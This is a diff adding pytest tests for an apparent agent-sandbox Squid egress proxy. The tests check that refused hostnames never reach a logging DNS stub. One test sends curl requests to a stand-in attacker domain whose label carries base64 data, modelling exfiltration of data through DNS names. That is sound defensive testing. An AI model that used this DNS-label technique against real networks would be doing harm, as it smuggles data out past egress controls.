@@ -237,3 +237,112 @@ def test_none_mode_opencode_works_with_no_internet_and_reaches_the_model_only_th
         assert f"POST http://{model_server}:8000/v1/chat/completions" in log, log
     finally:
         clean_up(processes, [tag], run)
+
+
+# -- no name is resolved unless it is allowed (security review 2, #1) ---------------------------------------
+
+DNS_SERVER = "10.53.0.1"
+LISTED, UNLISTED = "listed.dns.example", "exfil-c29tZSBjb2Rl.attacker.example"
+
+
+def dns_stub(address: str, log: Path, answers: dict[str, str]) -> str:
+    """A DNS server (UDP 53) that writes every name it is asked for to `log`, and answers A queries for the
+    names in `answers` (NXDOMAIN for others, no records for other types)."""
+    return f'''
+import socket, struct, sys
+answers = {answers!r}
+sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+sock.bind(({address!r}, 53))
+while True:
+    data, peer = sock.recvfrom(2048)
+    labels, at = [], 12
+    while data[at]:
+        labels.append(data[at + 1:at + 1 + data[at]].decode()); at += 1 + data[at]
+    name, qtype = ".".join(labels), struct.unpack(">H", data[at + 1:at + 3])[0]
+    with open({str(log)!r}, "a") as out:
+        out.write(name + "\\n")
+    question = data[12:at + 5]
+    if name in answers and qtype == 1:
+        record = b"\\xc0\\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton(answers[name])
+        sock.sendto(data[:2] + b"\\x81\\x80" + struct.pack(">HHHH", 1, 1, 0, 0) + question + record, peer)
+    else:
+        flags = b"\\x81\\x80" if name in answers else b"\\x81\\x83"
+        sock.sendto(data[:2] + flags + struct.pack(">HHHH", 1, 0, 0, 0) + question, peer)
+'''
+
+
+@pytest.fixture(scope="module")
+def resolver(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, str]]:
+    """The real Squid with the shipped configuration (allowlist mode, the model server on), its names resolved
+    only by a DNS stub that logs each query; the agent in a namespace of its own, as above."""
+    tag = f"d{os.getpid()}"
+    host, agent = f"oc-dns-host-{tag}", f"oc-dns-agent-{tag}"
+    processes: list[subprocess.Popen[bytes]] = []
+    run = Path(tempfile.mkdtemp(prefix="oc-squid-dns-", dir="/tmp"))
+    run.chmod(0o777)
+    try:
+        sh("ip", "netns", "add", host)
+        sh("ip", "netns", "add", agent)
+        sh("ip", "link", "add", f"odv{tag}", "type", "veth", "peer", "name", f"oda{tag}")
+        sh("ip", "link", "set", f"odv{tag}", "netns", host)
+        sh("ip", "link", "set", f"oda{tag}", "netns", agent)
+        inh, ina = ("ip", "netns", "exec", host), ("ip", "netns", "exec", agent)
+        sh(*inh, "ip", "addr", "add", f"{AGENT_GATEWAY}/24", "dev", f"odv{tag}")
+        sh(*ina, "ip", "addr", "add", f"{AGENT_ADDRESS}/24", "dev", f"oda{tag}")
+        for ns, link in ((inh, f"odv{tag}"), (ina, f"oda{tag}")):
+            sh(*ns, "ip", "link", "set", "lo", "up")
+            sh(*ns, "ip", "link", "set", link, "up")
+        settings = load_settings(egress={"mode": "allowlist", "allow": [LISTED]}, model_server={"enabled": True})
+        for address in (WORLD, DNS_SERVER):
+            sh(*inh, "ip", "addr", "add", f"{address}/32", "dev", "lo")
+        www = tmp_path_factory.mktemp("www-dns")
+        (www / "index.html").write_text("reached\n")
+        processes.append(subprocess.Popen([*inh, "python3", "-m", "http.server", "-b", WORLD, "443", "-d", str(www)],
+                                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
+        queries = run / "queries"
+        queries.write_text("")
+        (run / "dns.py").write_text(dns_stub(DNS_SERVER, queries, {LISTED: WORLD}))
+        processes.append(subprocess.Popen([*inh, "python3", str(run / "dns.py")], stdout=subprocess.DEVNULL,
+                                          stderr=(run / "dns.err").open("w")))
+        (run / "hosts").write_text("")  # every name goes to DNS
+        conf = render_squid_conf(BootstrapSettings.from_settings(settings), paths={
+            "access_log": str(run / "access.log"), "cache_log": str(run / "cache.log"),
+            "pid_file": str(run / "squid.pid"), "hosts_file": str(run / "hosts")})
+        # The test's only addition: where Squid asks (the instance's resolver on ECS).
+        (run / "squid.conf").write_text(conf + f"dns_nameservers {DNS_SERVER}\n")
+        processes.append(subprocess.Popen([*inh, "squid", "-N", "-f", str(run / "squid.conf")],
+                                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
+        for _ in range(100):
+            if sh(*inh, "sh", "-c", f"exec 3<>/dev/tcp/{AGENT_GATEWAY}/{PROXY_PORT}", check=False).returncode == 0:
+                break
+            time.sleep(0.2)
+        yield {"agent": agent, "queries": str(queries)}
+    finally:
+        clean_up(processes, [host, agent], run)
+
+
+def asked(resolver: dict[str, str]) -> list[str]:
+    """The names the resolver was asked for, lower-case (DNS names are case-insensitive; Squid lowers them)."""
+    return Path(resolver["queries"]).read_text().lower().split()
+
+
+def test_an_allowed_name_is_resolved_and_reached(resolver: dict[str, str]) -> None:
+    """The positive control: the stub sees the allowed name's query, and the agent reaches it."""
+    assert curl(resolver["agent"], f"http://{LISTED}:443/", proxy=True, tunnel=True) == "http 200"
+    assert LISTED.lower() in asked(resolver)
+
+
+@pytest.mark.parametrize("n, port, tunnel, why", [
+    (1, 443, True, "CONNECT to a name not on the list"),
+    (2, 22, True, "CONNECT to another port"),
+    (3, 80, False, "plain HTTP"),
+    (4, 8000, False, "plain HTTP to the model server's port"),
+])
+def test_a_refused_name_is_never_resolved(resolver: dict[str, str], n: int, port: int, tunnel: bool, why: str) -> None:
+    """egress must not leak through DNS: a name the proxy refuses is never sent to the resolver, or the name
+    itself (here base64 in a label) would carry data out though the request is refused."""
+    name = f"{n}-{UNLISTED}"  # one name per case: the resolver's log is the module's
+    answer = curl(resolver["agent"], f"http://{name}:{port}/", proxy=True, tunnel=tunnel)
+    assert answer in ("connect 403", "http 403"), (why, answer)
+    time.sleep(0.5)
+    assert name.lower() not in asked(resolver), why
